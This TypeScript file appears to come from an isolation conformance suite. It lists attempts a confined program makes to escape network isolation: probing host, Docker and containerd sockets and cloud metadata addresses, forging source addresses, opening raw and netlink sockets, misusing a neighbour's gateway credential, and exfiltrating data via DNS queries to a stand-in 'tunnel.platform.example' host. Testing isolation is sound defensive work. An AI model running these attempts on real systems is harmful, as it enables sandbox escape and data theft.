// Ways to hosts, to services of this machine, and to other installations.
import { type Call, text } from '../machine-code.ts';
import type { Way } from '../way.ts';

const AF_UNIX = 1;
const AF_INET = 2;
const AF_NETLINK = 16;
const SOCK_STREAM = 1;
const SOCK_DGRAM = 2;
const SOCK_RAW = 3;

function socket(name: string, family: number, type: number, protocol: number, more: Partial<Way> = {}): Way {
  const calls = (): Call[] => [{ number: 41, arguments: [family, type, protocol] }];
  return { name, control: 'as root', attempt: { kind: 'calls', calls }, ...more };
}

export const networkWays: readonly Way[] = [
  {
    name: 'connects to a service of the host on every address',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const outcomes = await Promise.all(
          t.hostAddresses.map((host) => connect({ host, port: t.hostTcpPort }, 1_500)),
        );
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'connects to core without its Gateway',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const outcomes = await Promise.all(t.hostAddresses.map((host) => connect({ host, port: t.corePort }, 1_500)));
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'connects to the host through the names and gateways that it can find',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect, fs, os }, t) => {
        const read = (file: string) => {
          try {
            return fs.readFileSync(file, 'utf8');
          } catch {
            return '';
          }
        };
        const fromText = (text: string) => text.match(/\b\d+\.\d+\.\d+\.\d+\b/g) ?? [];
        const gateways = read('/proc/net/route')
          .split('\n')
          .slice(1)
          .flatMap((line) => {
            const hex = line.split('\t')[2];
            return hex === undefined || !/^[0-9A-F]{8}$/.test(hex)
              ? []
              : [[...Buffer.from(hex, 'hex')].reverse().join('.')];
          });
        const own = Object.values(os.networkInterfaces()).flatMap((list) => (list ?? []).map((one) => one.address));
        const first = own.filter((one) => one.includes('.')).map((one) => one.replace(/\d+$/, '1'));
        const hosts = [
          ...fromText(read('/etc/hosts') + read('/etc/resolv.conf')),
          ...gateways,
          ...own,
          ...first,
          'localhost',
          'host.docker.internal',
          'gateway.docker.internal',
        ];
        const outcomes = await Promise.all(
          [...new Set(hosts)].flatMap((host) =>
            [t.hostTcpPort, t.corePort].map((port) => connect({ host: host.split('%')[0] ?? host, port }, 1_500)),
          ),
        );
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'finds the listening ports of the host in /proc/net',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: ({ fs }, t) => {
        const hex = t.hostTcpPort.toString(16).toUpperCase().padStart(4, '0');
        const tables = ['/proc/net/tcp', '/proc/net/tcp6', '/proc/1/net/tcp6', `/proc/${t.hostPid}/net/tcp6`];
        const found = tables.filter((file) => {
          try {
            return fs.readFileSync(file, 'utf8').includes(`:${hex} `);
          } catch {
            return false;
          }
        });
        return found.length > 0 ? `through ${found.join(' ')}` : 'refused';
      },
    },
  },
  {
    name: 'connects to an abstract Unix socket of the host',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const outcome = await connect({ path: t.hostAbstractName });
        return outcome === 'connected' ? 'through' : outcome;
      },
    },
  },
  {
    name: 'connects to a Unix socket of the host by its path',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const paths = [
          t.hostSocketPath,
          `/proc/1/root${t.hostSocketPath}`,
          `/proc/${t.hostPid}/root${t.hostSocketPath}`,
        ];
        const outcomes = await Promise.all(paths.map((path) => connect({ path })));
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'connects to every Unix socket that it can find a name of, to pass a descriptor over it',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ connect, fs }, t) => {
        const names = fs
          .readFileSync('/proc/net/unix', 'utf8')
          .split('\n')
          .flatMap((line) => line.trim().split(/\s+/)[7] ?? [])
          .map((name) => (name.startsWith('@') ? `\0${name.slice(1)}` : name));
        const common = [
          '/var/run/docker.sock',
          '/run/docker.sock',
          '/run/containerd/containerd.sock',
          '/run/dbus/system_bus_socket',
          '/run/systemd/private',
        ];
        // That of the test first, and no further than the first that answers: the others belong to somebody, such as
        // the same test of another driver.
        const all = [...new Set([...names, ...common])].sort((one) => (one === t.hostAbstractName ? -1 : 1));
        for (const path of all) {
          if ((await connect({ path })) === 'connected') return `through ${path.replaceAll('\0', '@')}`;
        }
        return 'refused';
      },
    },
  },
  {
    name: 'asks the metadata service of a cloud',
    control: { because: 'nothing here answers at that address, and no packet may be sent there' },
    attempt: {
      kind: 'code',
      inside: async ({ connect }) => {
        const hosts = [
          '169.254.169.254',
          '169.254.170.2',
          '100.100.100.200',
          'fd00:ec2::254',
          'metadata.google.internal',
        ];
        const outcomes = await Promise.all(hosts.map((host) => connect({ host, port: 80 }, 1_500)));
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'connects to private, shared, documentation, multicast and reserved addresses',
    control: { because: 'no packet may be sent there; host services on the same ways are the control' },
    attempt: {
      kind: 'code',
      inside: async ({ connect }) => {
        const hosts = [
          '10.0.0.1',
          '172.16.0.1',
          '192.168.0.1',
          '100.64.0.1',
          '198.18.0.1',
          '198.51.100.7',
          '203.0.113.9',
          '224.0.0.1',
          '240.0.0.1',
          '255.255.255.255',
          '2001:db8::1',
          'fe80::1',
          '::ffff:10.0.0.1',
        ];
        const outcomes = await Promise.all(hosts.map((host) => connect({ host, port: 80 }, 1_500)));
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'sends datagrams to the host, which counts them',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ dgram }, t) => {
        const socket = dgram.createSocket('udp4');
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        socket.on('error', () => undefined);
        for (const host of t.hostAddresses.filter((one) => one.includes('.'))) socket.send('ask', t.hostUdpPort, host);
        const outcome = await answered;
        socket.close();
        return outcome;
      },
    },
  },
  {
    name: 'sends a datagram with a source address that is not its own',
    control: 'as the user',
    attempt: {
      kind: 'code',
      // 127.6.6.6 is an address of every host's loopback, and of nobody inside.
      inside: async ({ dgram }, t) => {
        const socket = dgram.createSocket('udp4');
        const bound = await new Promise<string>((resolve) => {
          socket.once('error', (error) => resolve(String((error as NodeJS.ErrnoException).code)));
          socket.bind(0, '127.6.6.6', () => resolve('bound'));
        });
        if (bound !== 'bound') return bound;
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        socket.send('ask', t.hostUdpPort, '127.0.0.1');
        const outcome = await answered;
        socket.close();
        return outcome;
      },
    },
  },
  {
    name: 'carries data out in the names of DNS questions',
    control: {
      because:
        'the conformance suite counts datagrams at a socket of the host; a name server outside is not to be asked',
    },
    attempt: {
      kind: 'code',
      inside: async ({ dns, fs, dgram }, t) => {
        const servers = (fs.readFileSync('/etc/resolv.conf', 'utf8').match(/^nameserver\s+(\S+)/gm) ?? []).map(
          (line) => line.split(/\s+/)[1] ?? '',
        );
        const looked = await dns.lookup('c2VjcmV0.tunnel.platform.example').then(
          () => 'through',
          (error) => String(error.code),
        );
        const asked = await dns.resolveTxt('c2VjcmV0.tunnel.platform.example').then(
          () => 'through',
          (error) => String(error.code),
        );
        // A question by hand, to every server that it might know and to the host.
        const question = Buffer.from('0001010000010000000000000674756e6e656c076578616d706c650000010001', 'hex');
        const socket = dgram.createSocket('udp4');
        socket.on('error', () => undefined);
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        for (const server of [...servers, '127.0.0.53', '127.0.0.11', ...t.hostAddresses].filter((one) =>
          one.includes('.'),
        ))
          socket.send(question, 53, server);
        const outcome = await answered;
        socket.close();
        return [looked, asked, outcome].includes('through') ? 'through' : `${looked} ${asked} ${outcome}`;
      },
    },
  },
  {
    name: 'connects to a port of another installation',
    control: { because: 'the neighbour reaches its own port at the same addresses before the attempts' },
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const outcomes = await Promise.all(
          [...t.neighbourAddresses, ...t.hostAddresses].map((host) => connect({ host, port: t.neighbourPort }, 1_500)),
        );
        return outcomes.includes('connected') ? 'through' : outcomes.join(' ');
      },
    },
  },
  {
    name: 'connects to an abstract Unix socket of another installation',
    control: { because: 'the neighbour reaches it itself before the attempts' },
    attempt: {
      kind: 'code',
      inside: async ({ connect }, t) => {
        const outcome = await connect({ path: t.neighbourAbstractName });
        return outcome === 'connected' ? 'through' : outcome;
      },
    },
  },
  {
    name: 'uses the Gateway of another installation, found by trying every address and port nearby',
    control: { because: 'its own Gateway is found in the same way, which the attempt requires' },
    attempt: {
      kind: 'code',
      inside: async (_kit, t) => {
        const ask = async (host: string, port: number, token: string) => {
          try {
            const answer = await fetch(`http://${host}:${port}/v1/services/apps`, {
              headers: { authorization: `Bearer ${token}` },
              signal: AbortSignal.timeout(1_500),
            });
            return answer.status;
          } catch {
            return 0;
          }
        };
        if ((await ask(t.gatewayHost, t.gatewayPort, t.ownCredential)) !== 200)
          return 'through: it does not even find its own';
        const hosts = [
          ...new Set([
            t.gatewayHost,
            ...t.neighbourAddresses.filter((one) => one.includes('.')),
            ...t.hostAddresses.filter((one) => one.includes('.')),
          ]),
        ];
        const ports = [...new Set([t.gatewayPort, t.gatewayPort + 1, t.gatewayPort - 1, 7070, 7071])];
        const answers = await Promise.all(
          hosts.flatMap((host) => ports.map((port) => ask(host, port, t.neighbourCredential))),
        );
        return answers.includes(200) ? 'through' : 'refused';
      },
    },
  },
  socket('makes a raw socket, to read and forge ICMP', AF_INET, SOCK_RAW, 1),
  socket('makes a raw socket, to write headers with a source of its choice', AF_INET, SOCK_RAW, 255),
  socket('makes a packet socket, to read and forge frames', 17, SOCK_RAW, 0x0300),
  {
    name: 'reaches the machine or the hypervisor over vsock',
    control: { because: 'whether this machine has vsock differs; the family is refused before it is looked for' },
    attempt: {
      kind: 'calls',
      calls: () => {
        const cid2 = Buffer.alloc(16);
        cid2.writeUInt16LE(40, 0);
        cid2.writeUInt32LE(22, 4);
        cid2.writeUInt32LE(2, 8);
        return [
          { number: 41, arguments: [40, SOCK_STREAM, 0] },
          { number: 42, arguments: [{ resultOf: 0 }, { bytes: cid2 }, 16] },
        ];
      },
      through: ({ last }) => last === 'done',
    },
  },
  socket("makes a socket of the kernel's own ciphers, a frequent hole", 38, 5, 0, {
    kernelOnly: true,
    control: 'as the user',
  }),
  {
    name: 'changes its network devices over netlink',
    control: 'as root',
    attempt: {
      kind: 'calls',
      // RTM_SETLINK: takes device 1, which is loopback, up, as it is already.
      calls: () => {
        const message = Buffer.alloc(32);
        message.writeUInt32LE(32, 0);
        message.writeUInt16LE(16, 4);
        message.writeUInt16LE(5, 6);
        message.writeUInt32LE(1, 20);
        message.writeUInt32LE(1, 24);
        message.writeUInt32LE(1, 28);
        return [
          { number: 41, arguments: [AF_NETLINK, SOCK_RAW, 0] },
          { number: 44, arguments: [{ resultOf: 0 }, { bytes: message }, 32, 0, 0, 0] },
          { number: 45, arguments: [{ resultOf: 0 }, { bytes: Buffer.alloc(64) }, 64, 0, 0, 0] },
        ];
      },
      // The answer is NLMSG_ERROR, whose error is 0 when it was done.
      through: ({ results, memory }) =>
        (results[2] ?? -1) > 0 && memory.readUInt16LE(32 + 4) === 2 && memory.readInt32LE(32 + 16) === 0,
    },
  },
  {
    name: 'speaks to the audit log of the kernel over netlink',
    control: { because: 'only root of the whole machine may, outside of all namespaces' },
    kernelOnly: true,
    attempt: {
      kind: 'calls',
      calls: () => {
        const message = Buffer.alloc(16);
        message.writeUInt32LE(16, 0);
        message.writeUInt16LE(1000, 4);
        message.writeUInt16LE(5, 6);
        return [
          { number: 41, arguments: [AF_NETLINK, SOCK_RAW, 9] },
          { number: 44, arguments: [{ resultOf: 0 }, { bytes: message }, 16, 0, 0, 0] },
          { number: 45, arguments: [{ resultOf: 0 }, { bytes: Buffer.alloc(64) }, 64, 0x40, 0, 0] },
        ];
      },
      through: ({ results, memory }) => (results[2] ?? -1) > 0 && memory.readInt32LE(16 + 16) === 0,
    },
  },
  {
    name: 'takes a low port, to pose as a service of the machine',
    control: { because: 'a network of its own makes it harmless; the conformance suite tries the host from there' },
    attempt: {
      kind: 'code',
      // Its own port 53 is nobody's name server: outside it must not be reached.
      inside: async ({ net, connect }, t) => {
        const server = net.createServer((socket) => socket.end());
        const bound = await new Promise<string>((resolve) => {
          server.once('error', (error) => resolve(String((error as NodeJS.ErrnoException).code)));
          server.listen(53, '0.0.0.0', () => resolve('bound'));
        });
        const host = await connect({ host: '127.0.0.1', port: t.hostTcpPort }, 500);
        server.close();
        return host === 'connected' ? 'through' : bound;
      },
    },
  },
  {
    name: 'connects over a Unix socket pair to a descriptor of the platform that it was never given',
    control: { because: 'the attempt proves itself: its own pair answers' },
    attempt: {
      kind: 'calls',
      calls: () => [
        { number: 53, arguments: [AF_UNIX, SOCK_DGRAM, 0, { bytes: Buffer.alloc(8) }] },
        { number: 42, arguments: [3, text(''), 0] },
      ],
      through: ({ results }) => (results[1] ?? 0) >= 0,
    },
  },
];
